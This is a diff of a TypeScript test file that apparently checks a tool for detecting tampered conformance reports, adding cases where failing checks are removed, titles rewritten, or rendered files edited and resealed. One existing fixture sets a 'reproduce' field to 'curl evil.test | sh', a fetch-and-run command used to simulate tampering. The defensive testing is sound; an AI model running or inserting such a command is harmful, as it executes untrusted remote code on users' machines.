@@ -1,6 +1,7 @@
 import { renameSync, rmSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 
+import { writeReports } from '../../report/exports/write.ts';
 import {
   type AlteredFolder,
   bodyLine,
@@ -10,6 +11,7 @@ import {
   link,
   pass,
   report,
+  reseal,
   rewrite,
   statusOfFirst,
 } from './alter.ts';
@@ -72,7 +74,49 @@ export const CHANGED_FOLDERS: readonly AlteredFolder[] = [
         ...r,
         checks: r.checks.map((c) => ({ ...c, reproduce: 'curl evil.test | sh' })),
       })),
-    judge: [1, /✗ report\.json differs from its record in: checks/],
+    judge: [1, /✗ differ from a new rendering: report\.json/],
+    verify: [0, /not signed/],
+  },
+  {
+    title: 'a check that fails was taken out of the record and its lists, and everything was rendered again',
+    alter: async (f) => {
+      const isResult = (line: string) => line.includes('"type":"check","id":"stream/ends-with-done"');
+      editRecord(f, (t) =>
+        t
+          .split('\n')
+          .filter((line) => !isResult(line))
+          .join('\n')
+          .replace(/\{"id":"stream\/ends-with-done"[^\n]*?\},(?=\{"id")/, '')
+          .replace('"stream/ends-with-done",', ''),
+      );
+      await writeReports(f);
+    },
+    judge: [
+      1,
+      /✗ stream\/ends-with-done: skipped → fail.*✗ the record lacks checks of this suite: stream\/ends-with-done\n✗ the record omits checks that its options select: stream\/ends-with-done\n.*the evidence says: non-conformant/s,
+    ],
+    verify: [0, /not signed/],
+  },
+  {
+    title: 'the title of a check was rewritten in the record, and everything was rendered again',
+    alter: async (f) => {
+      editRecord(f, (t) => t.replace(/("id":"path\/stats","title":")[^"]+/, '$1Any'));
+      await writeReports(f);
+    },
+    judge: [1, /✗ the record describes checks differently from this suite: path\/stats\n/],
+    verify: [0, /not signed/],
+  },
+  {
+    title: 'every file for people was rewritten, with the manifest',
+    alter: async (f) => {
+      for (const name of ['junit.xml', 'ctrf.json', 'results.sarif', 'summary.md', 'index.html'])
+        edit(join(f, name), (t) => `${t} `);
+      await reseal(f);
+    },
+    judge: [
+      1,
+      /✗ differ from a new rendering: junit\.xml, ctrf\.json, results\.sarif, summary\.md, index\.html/,
+    ],
     verify: [0, /not signed/],
   },
   {
